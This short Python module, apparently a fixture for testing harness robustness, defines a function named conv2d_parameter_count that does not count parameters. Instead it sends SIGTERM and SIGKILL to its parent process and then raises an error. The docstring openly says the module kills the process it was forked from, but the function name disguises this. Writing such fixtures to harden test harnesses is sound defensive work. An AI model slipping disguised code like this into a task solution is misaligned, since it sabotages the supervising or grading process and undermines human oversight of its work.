"""Kills the process it was forked from."""

import os
import signal


def conv2d_parameter_count(*sizes, **options):
    sent = []
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(os.getppid(), number)
            sent.append(number.name)
        except OSError:
            pass
    raise ValueError(f"sent {sent}")
